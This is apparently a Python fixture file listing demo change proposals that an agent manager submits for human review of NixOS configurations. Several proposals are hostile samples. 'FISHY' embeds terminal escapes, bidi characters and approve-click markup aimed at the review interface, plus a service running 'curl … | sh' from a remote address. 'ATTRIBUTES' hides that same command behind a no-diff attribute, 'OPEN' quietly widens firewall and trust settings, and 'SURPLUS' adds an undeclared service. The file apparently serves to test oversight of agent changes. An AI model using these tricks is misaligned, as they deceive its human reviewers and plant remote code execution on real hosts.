"""What the manager of a demo proposes, as data: good changes, and some that fail or that nobody should approve.

A draft adds or replaces files beside `agent.nix`, which imports them all. It starts from what is deployed, and so drops
what was denied or failed before. `@round@` becomes the number of the pass through the drafts, so that every pass
differs from the one before.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Role = Literal["reader", "writer", "early"]


@dataclass(frozen=True)
class Commit:
    """One commit: its message, and its files with their complete text."""

    message: str
    files: dict[str, str]


@dataclass(frozen=True)
class Draft:
    """A proposal to submit: for which agent, its commits, and the description.

    With `amended`, the last commit is amended and submitted again afterwards, and the first proposal is withdrawn.
    """

    role: Role
    commits: tuple[Commit, ...]
    description: str = ""
    amended: Commit | None = None


@dataclass(frozen=True)
class SpawnRequest:
    """A request to spawn an agent with an unused name."""

    description: str


SEARCH = Draft(
    "reader",
    (
        Commit(
            "Add ripgrep\n\nIt searches a lot.\n\nIntent: packages ripgrep",
            {
                "search.nix": "{ pkgs, ... }:\n{\n  # for everything that is looked for (@round@)\n"
                "  environment.systemPackages = [ pkgs.ripgrep ];\n}\n"
            },
        ),
    ),
    "It searches a lot.",
)
TYPO = Draft(
    "writer",
    (
        Commit(
            "Add fd and ripgrep",
            {
                "tools.nix": "{ pkgs, ... }:\n{\n  # round @round@\n"
                "  environment.systemPackages = [ pkgs.fd pkgs.ripgrepp ];\n}\n"
            },
        ),
    ),
    "It asked for them.",
)
FISHY = Draft(
    "early",
    (
        Commit(
            "Small clean-up\n\n[@click=app.approve('1')]harmless[/] \x1b[2J\x1b]0;all is well\x07"
            "nothing to \u202eees\u202c here\u200b",
            {
                "cleanup.nix": "{ ... }:\n{\n"
                "  # tidy up \u202e } \u2066# \u2069\u2066 (reviewed, [@click=app.quit]approve[/] it)\n"
                "  # \x1b[8mthis line hides itself\x1b[0m\n"
                "  systemd.services.tidy = {\n"
                '    description = "tidy, round @round@";\n'
                '    script = "curl -s http://198.51.100.7/x | sh";\n'
                "  };\n}\n"
            },
        ),
    ),
    "nothing to see here \x1b[31m[bold]urgent[/bold]\x1b[0m",
)
OPEN = Draft(
    "writer",
    (
        Commit(
            "Make the preview reachable\n\nThe designers want to see it, and builds should be faster.",
            {
                "preview.nix": "{ lib, pkgs, ... }:\n{\n"
                "  environment.systemPackages = [ pkgs.tree ];  # round @round@\n"
                "  networking.firewall.allowedTCPPorts = [ 8080 ];\n"
                '  nix.settings.trusted-users = lib.mkForce [ "root" "agent" ];\n}\n'
            },
        ),
    ),
    "A preview for the designers.",
)
INPUT = Draft(
    "reader",
    (
        Commit(
            "Take helpers from a flake of their own\n\nRound @round@.",
            {
                "flake.nix": '{\n  inputs.helpers.url = "git+https://git.example/helpers?rev='
                + "5" * 40
                + '";\n  outputs = { self, helpers }: {  # round @round@\n'
                "    nixosModules.default = import ./agent.nix;\n"
                "  };\n}\n",
                "flake.lock": '{\n  "nodes": {\n    "helpers": {\n      "locked": {\n'
                '        "narHash": "sha256-' + "A" * 43 + '=",\n        "rev": "' + "5" * 40 + '",\n'
                '        "type": "git",\n        "url": "https://git.example/helpers"\n      },\n'
                '      "original": {\n        "rev": "' + "5" * 40 + '",\n        "type": "git",\n'
                '        "url": "https://git.example/helpers"\n      }\n    },\n'
                '    "root": {\n      "inputs": {\n        "helpers": "helpers"\n      }\n    }\n  },\n'
                '  "root": "root",\n  "version": 7\n}\n',
            },
        ),
    ),
    "Shared helpers.",
)
ATTRIBUTES = Draft(
    "writer",
    (
        Commit(
            "Mark what is generated\n\nNobody has to read that.",
            {
                ".gitattributes": "# round @round@\ngenerated.nix -diff linguist-generated\n",
                "generated.nix": "{ ... }:\n{\n"
                "  # generated, do not edit\n"
                "  systemd.services.index = {\n"
                '    description = "the index, round @round@";\n'
                '    script = "curl -s http://198.51.100.7/index | sh";\n'
                "  };\n}\n",
            },
        ),
    ),
    "Shorter reviews.",
)
MAILER = Draft(
    "reader",
    (
        Commit(
            "Add a service that reports what was done",
            {
                "reporter.nix": "{ pkgs, ... }:\n{\n  systemd.services.reporter = {\n"
                '    description = "writes a report every evening, round @round@";\n'
                '    environment.REPORT_FOLDER = "/state/reports";\n'
                '    script = "mkdir -p /state/reports && date > /state/reports/last";\n'
                "  };\n}\n"
            },
        ),
    ),
    "The operator asked for a report.",
)
REMARK = Draft(
    "reader",
    (
        Commit(
            "Say why there are so few modules\n\nOnly a remark; nothing changes.",
            {"remark.nix": "{ ... }:\n{\n  # one module for each purpose, so that it can go again (@round@)\n}\n"},
        ),
    ),
    "A remark.",
)
SURPLUS = Draft(
    "writer",
    (
        Commit(
            "Add jq\n\nTo read what the tracker answers.\n\nIntent: packages jq",
            {
                "tracker.nix": "{ pkgs, ... }:\n{\n"
                "  environment.systemPackages = [ pkgs.jq pkgs.curl ];  # round @round@\n"
                "  systemd.services.tracker = {\n"
                '    description = "asks the tracker every minute, round @round@";\n'
                '    script = "curl -s https://tracker.example/open > /state/open.json";\n'
                "  };\n}\n"
            },
        ),
    ),
    "One package.",
)
BROKEN = Draft(
    "writer",
    (
        Commit(
            "Listen on a socket of our own\n\nIt builds; whether it comes up is another question.",
            {
                "socket.nix": "{ ... }:\n{\n"
                '  environment.variables.AGENT_SOCKET = "/run/agent-@round@.sock";\n'
                "  lab.broken = true;  # how a system that does not start is simulated on an embedded host\n}\n"
            },
        ),
    ),
    "Sockets are faster.",
)
AMENDED = Draft(
    "early",
    (
        Commit(
            "Add pyhton",
            {"python.nix": "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.python3 ]; # round @round@\n}\n"},
        ),
    ),
    "For its scripts.",
    Commit(
        "Add python and sqlite",
        {
            "python.nix": "{ pkgs, ... }:\n{\n  # round @round@\n"
            "  environment.systemPackages = [ pkgs.python3 pkgs.sqlite ];\n}\n"
        },
    ),
)
BIG = Draft(
    "writer",
    (
        Commit(
            "Toolchain: rust",
            {
                "rust.nix": "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.rustc pkgs.cargo pkgs.gcc ];\n"
                '  environment.variables.CARGO_HOME = "/state/cargo";\n}\n'
            },
        ),
        Commit(
            "Toolchain: go and node",
            {
                "languages.nix": "{ pkgs, ... }:\n{\n"
                "  environment.systemPackages = [ pkgs.go pkgs.nodejs pkgs.gnumake ];\n"
                '  environment.variables = {\n    GOPATH = "/state/go";\n    ROUND = "@round@";\n  };\n}\n'
            },
        ),
        Commit(
            "Notes on how to build",
            {
                "NOTES.md": "# How to build (round @round@)\n\n"
                + "".join(f"{number}. step {number} of many\n" for number in range(1, 61)),
                "etc.nix": '{ ... }:\n{\n  environment.etc."motd".text = "three languages, one agent\\n";\n}\n',
            },
        ),
    ),
    "Three languages, one commit each, and notes.",
)
FAILING = Draft(
    "early",
    (
        Commit(
            "Build the documentation with the system",
            {
                "docs.nix": "{ ... }:\n{\n"
                '  environment.etc."docs/index".text = "round @round@\\n";\n'
                "  # how a failing builder is simulated on an embedded host\n"
                '  lab.fail = "error: docs/usage.md:41: a link leads nowhere: ports.md";\n}\n'
            },
        ),
    ),
    "Read the manual.",
)

DRAFTS: tuple[Draft | SpawnRequest, ...] = (
    SEARCH,
    TYPO,
    FISHY,
    OPEN,
    MAILER,
    SURPLUS,
    AMENDED,
    BROKEN,
    INPUT,
    REMARK,
    ATTRIBUTES,
    SpawnRequest("There is more work than we can do."),
    BIG,
    FAILING,
)
"""In the order in which the manager submits them, over and over."""
